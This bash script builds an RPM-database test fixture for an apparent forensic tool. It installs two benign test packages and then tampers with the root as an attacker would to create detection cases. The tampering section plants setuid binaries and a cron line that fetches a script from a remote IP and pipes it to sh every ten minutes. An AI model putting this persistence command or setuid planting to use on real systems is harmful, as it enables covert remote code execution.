#!/bin/bash
# Makes rpm-root.tar.gz: a small root whose rpm database (rpmdb.sqlite) was
# written by the real rpm (4.18, Debian's `rpm` package: apt-get install -y rpm)
# installing two packages built here with rpmbuild, then tampered with as an
# attacker would. Also records what the real rpm says of it (rpm -qa, -ql,
# -V) for the tests to compare with. Run as root:
#   bash make-rpm-root.sh OUTDIR
set -euo pipefail
OUT=$(realpath "${1:-.}")
W=$(mktemp -d); trap 'rm -rf "$W"' EXIT
T=$W/top; R=$W/root; mkdir -p "$T"/{SPECS,SOURCES,BUILD,RPMS,SRPMS} "$R"
export SOURCE_DATE_EPOCH=1795748400
cat >"$T/SOURCES/agent.c" <<'C'
#include <stdio.h>
int main(void) { puts("deadnode test agent"); return 0; }
C
gcc -Os -s -o "$T/SOURCES/dn-agent" "$T/SOURCES/agent.c"
common='
%define debug_package %{nil}
%define __os_install_post %{nil}
%define _build_id_links none
%define _source_payload w9.gzdio
%define _binary_payload w9.gzdio
%define _buildhost deadnode.test
%define use_source_date_epoch_as_buildtime 1
%define clamp_mtime_to_source_date_epoch 1
'
cat >"$T/SPECS/agent.spec" <<SPEC
$common
Name: deadnode-agent
Version: 1.0
Release: 1
Summary: deadnode rpm test agent
License: MIT
BuildArch: x86_64
%description
A tiny agent for deadnode's rpm database tests.
%install
mkdir -p %{buildroot}/usr/bin %{buildroot}/etc/dn-agent %{buildroot}/etc/cron.d %{buildroot}/usr/lib/systemd/system %{buildroot}/usr/share/doc/deadnode-agent %{buildroot}/var/log
install -m 0755 %{_sourcedir}/dn-agent %{buildroot}/usr/bin/dn-agent
ln -s dn-agent %{buildroot}/usr/bin/dn-ctl
printf 'listen = 127.0.0.1:7000\n' >%{buildroot}/etc/dn-agent/agent.conf
printf '0 4 * * * root /usr/bin/dn-agent --rotate\n' >%{buildroot}/etc/cron.d/dn-agent
printf '[Unit]\nDescription=dn agent\n[Service]\nExecStart=/usr/bin/dn-agent\n[Install]\nWantedBy=multi-user.target\n' >%{buildroot}/usr/lib/systemd/system/dn-agent.service
printf 'read me\n' >%{buildroot}/usr/share/doc/deadnode-agent/README
touch %{buildroot}/var/log/dn-agent.log
%files
/usr/bin/dn-agent
/usr/bin/dn-ctl
%dir /etc/dn-agent
%config(noreplace) /etc/dn-agent/agent.conf
%config /etc/cron.d/dn-agent
/usr/lib/systemd/system/dn-agent.service
%doc /usr/share/doc/deadnode-agent/README
%ghost /var/log/dn-agent.log
SPEC
cat >"$T/SPECS/tools.spec" <<SPEC
$common
Name: deadnode-tools
Version: 2.1
Release: 3
Epoch: 1
Summary: deadnode rpm test tools
License: MIT
BuildArch: noarch
%description
Scripts for deadnode's rpm database tests.
%install
mkdir -p %{buildroot}/usr/bin %{buildroot}/usr/libexec
printf '#!/bin/sh\necho tool\n' >%{buildroot}/usr/bin/dn-tool
printf '#!/bin/sh\necho report\n' >%{buildroot}/usr/bin/dn-report
printf '#!/bin/sh\necho helper\n' >%{buildroot}/usr/libexec/dn-helper
chmod 0755 %{buildroot}/usr/bin/dn-tool %{buildroot}/usr/bin/dn-report %{buildroot}/usr/libexec/dn-helper
%files
/usr/bin/dn-tool
/usr/bin/dn-report
/usr/libexec/dn-helper
SPEC
for s in agent tools; do rpmbuild --quiet --define "_topdir $T" -bb "$T/SPECS/$s.spec" >/dev/null; done
rpm --root "$R" --dbpath /var/lib/rpm --initdb
rpm --root "$R" --dbpath /var/lib/rpm -i --nodeps --noscripts --nosignature --ignorearch "$T"/RPMS/*/*.rpm
mkdir -p "$R/etc/systemd/system/multi-user.target.wants" "$R/tmp"
ln -s /usr/lib/systemd/system/dn-agent.service "$R/etc/systemd/system/multi-user.target.wants/dn-agent.service"
rpm --root "$R" --dbpath /var/lib/rpm -qa --qf '%{NAME} %{EPOCHNUM}:%{VERSION}-%{RELEASE} %{ARCH}\n' | sort >"$OUT/rpm-qa.txt"
rpm --root "$R" --dbpath /var/lib/rpm -qa --qf '[%{FILENAMES} %{FILEDIGESTS} %{FILEMODES:octal} %{FILEFLAGS}\n]' | sort >"$OUT/rpm-files.txt"
# ---- tampering ----
printf 'TAMPERED' >>"$R/usr/bin/dn-agent"                                  # modified
printf 'listen = 0.0.0.0:7000\n' >"$R/etc/dn-agent/agent.conf"              # conffile modified
rm "$R/usr/share/doc/deadnode-agent/README"                                 # missing
rm "$R/usr/bin/dn-tool"; ln -s /tmp/.t "$R/usr/bin/dn-tool"                 # type changed
chmod 4755 "$R/usr/libexec/dn-helper"                                       # mode changed (setuid gained)
mkdir -p "$R/usr/sbin"; cp "$R/usr/bin/dn-report" "$R/usr/sbin/dn-report-copy"; chmod 0755 "$R/usr/sbin/dn-report-copy"   # unowned, identical_to
cp "$R/usr/bin/dn-report" "$R/usr/bin/.dn-suid"; chmod 4755 "$R/usr/bin/.dn-suid"                                         # setuid_unowned
printf '*/10 * * * * root curl -fsSL http://203.0.113.9/x | sh\n' >"$R/etc/cron.d/dn-update"                               # unowned persistence
{ rpm --root "$R" --dbpath /var/lib/rpm -Va --nodeps 2>/dev/null || true; } | sort >"$OUT/rpm-Va.txt"
find "$R" -exec touch -h -d @1795748400 {} +
tar --numeric-owner --sort=name --mtime=@1795748400 -C "$R" -czf "$OUT/rpm-root.tar.gz" .
tar -tvzf "$OUT/rpm-root.tar.gz" | grep -i rpmdb
ls -la "$OUT"
